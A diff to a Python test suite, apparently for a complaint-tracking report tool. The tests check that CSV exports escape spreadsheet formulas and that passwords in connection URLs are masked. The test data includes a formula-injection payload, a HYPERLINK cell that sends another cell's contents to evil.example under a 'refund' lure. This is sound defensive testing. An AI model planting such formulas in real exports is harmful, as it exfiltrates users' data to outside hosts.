@@ -230,12 +230,13 @@ FORMULAS = ['=HYPERLINK("https://evil.example/?leak="&A2,"Click for your refund"
 
 def test_csv_cells_a_spreadsheet_would_run_open_as_text(sqlite_store, cfg):
     now = datetime.now(UTC)
-    for i, author in enumerate(FORMULAS + ["maria_t"]):
+    for i, author in enumerate(FORMULAS + ["maria_t", "'tis_me"]):
         seed_case(sqlite_store, cfg, external_id=f"f{i}", body="Northwind took my money", author=author,
                   minutes_ago=10 + i)
     text = weekly.to_csv(weekly.weekly_report(sqlite_store, cfg, week_name(now.date()), now=now))
     rows = list(csv.DictReader(io.StringIO(text, newline="")))
-    assert sorted(r["author"] for r in rows) == sorted(["'" + f for f in FORMULAS] + ["maria_t"])
+    # an apostrophe of the author's own gets one more, which the spreadsheet hides: it shows "'tis_me"
+    assert sorted(r["author"] for r in rows) == sorted(["'" + f for f in FORMULAS] + ["maria_t", "''tis_me"])
     for row in rows:
         for column, cell in row.items():
             assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
@@ -326,6 +327,8 @@ def test_a_password_in_an_address_is_hidden_wherever_an_address_is_shown():
     assert shown == ("forum answered 503 (https://ann:***@board.example/t/1?x=1) and "
                      "postgresql://hearken@db:5432/h?sslmode=require&password=***&application_name=h")
     assert hide_passwords("http://board.example:8080/t/1 at 10:32") == "http://board.example:8080/t/1 at 10:32"
+    # SQLAlchemy reads a password up to its @ across / ? # (a URL parser would stop there): hidden to the @
+    assert hide_passwords("postgresql://hearken:s3cr/et?#pw@db:5432/h failed") == "postgresql://hearken:***@db:5432/h failed"
     assert without_credentials("https://ann:pw@board.example:8443/t/1#p2") == "https://board.example:8443/t/1#p2"
 
     buf = io.StringIO()
